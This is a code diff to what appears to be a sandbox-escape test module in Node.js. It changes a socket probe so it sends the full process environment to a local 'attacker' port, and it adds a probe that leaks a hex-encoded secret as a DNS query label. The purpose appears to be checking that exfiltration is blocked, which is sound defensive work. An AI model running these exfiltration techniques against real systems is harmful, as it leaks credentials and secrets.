@@ -3,6 +3,7 @@
 // Attempts to read what is not the application's, and to get it out.
 
 const { spawn } = require('node:child_process');
+const { Resolver } = require('node:dns').promises;
 const fs = require('node:fs');
 const net = require('node:net');
 const { refused, succeeded } = require('../system');
@@ -47,7 +48,9 @@ function shell() {
 // Succeeds once the attacker's server has answered: the data has arrived.
 function callOut({ attackerPort }) {
   return new Promise((resolve) => {
-    const socket = net.connect(attackerPort, '127.0.0.1', () => socket.write('stolen\n'));
+    const socket = net.connect(attackerPort, '127.0.0.1', () => {
+      socket.write(`${JSON.stringify(process.env)}\n`);
+    });
     socket.setTimeout(ANSWER_MS, () => socket.destroy(new Error('no answer')));
     socket.once('data', (data) => {
       socket.destroy();
@@ -57,4 +60,16 @@ function callOut({ attackerPort }) {
   });
 }
 
-module.exports = { vault, passwd, npmrc, neighbour, shell, callOut };
+// What a name server is asked for, it knows: a secret leaves as a label.
+async function nameQuery({ nameServer }) {
+  const resolver = new Resolver({ timeout: ANSWER_MS, tries: 1 });
+  resolver.setServers([nameServer]);
+  try {
+    await resolver.resolve4(`${Buffer.from('secret').toString('hex')}.example`);
+    return succeeded('it was answered');
+  } catch (error) {
+    return refused(error.code);
+  }
+}
+
+module.exports = { vault, passwd, npmrc, neighbour, shell, callOut, nameQuery };
